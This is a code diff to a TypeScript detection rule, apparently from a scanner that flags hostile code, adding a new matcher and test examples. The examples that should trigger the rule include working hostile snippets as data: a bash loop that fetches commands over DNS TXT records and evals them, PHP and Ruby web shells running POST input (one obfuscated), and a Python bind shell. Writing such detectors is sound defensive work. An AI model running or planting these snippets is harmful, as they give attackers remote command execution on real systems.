@@ -6,6 +6,8 @@ import { isLocal } from '../../signals/places/hosts.ts'
 import { candidates } from '../../signals/search/candidates.ts'
 import { CONNECTS, SHELLS } from '../../signals/shell/calls.ts'
 import { addressesIn, pairs, snippets } from '../../signals/shell/snippets.ts'
+import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { ORDERS_BY_NAME } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 
 const REACH = 320
 
@@ -94,6 +96,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\nwhile sleep 9; do c=$(dig +short TXT k.tallow-bar.net); eval "$c"; done\n```\n',
       '```php\n<?php $a = $_POST["q"]; eval(base64_decode($a));\n```\n',
       '```php\n<?php $f = strrev("metsys"); $f(gzinflate(base64_decode($_POST["q"])));\n```\n',
       '```ruby\npost "/x" do\n  eval(params[:c])\nend\n```\n',
@@ -110,6 +113,7 @@ export default defineRule({
       '```python\ns = socket.socket(); s.bind(("0.0.0.0", 5555)); s.listen(1)\nc, _ = s.accept()\nc.send(subprocess.getoutput(c.recv(4096).decode()).encode())\n```\n',
     ],
     quiet: [
+      '```bash\nc=$(dig +short TXT kiln.example); echo "$c" | grep spf\n```\n',
       '```php\n<?php echo base64_decode($_POST["note"]); $render($rows);\n```\n',
       '```ruby\npost "/x" do\n  render(params[:c])\nend\n```\n',
       '```python\ns = socket.create_connection(("localhost", 5432), timeout=1)\ns.close()\n```\n',
@@ -122,6 +126,7 @@ export default defineRule({
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, ORDERS_BY_NAME)
     const { text: all } = document.reading
     for (const { start, end } of candidates(document, document.observe(snippets), IN_DISGUISE)) {
       const found = IN_DISGUISE.exec(all.slice(start, end))
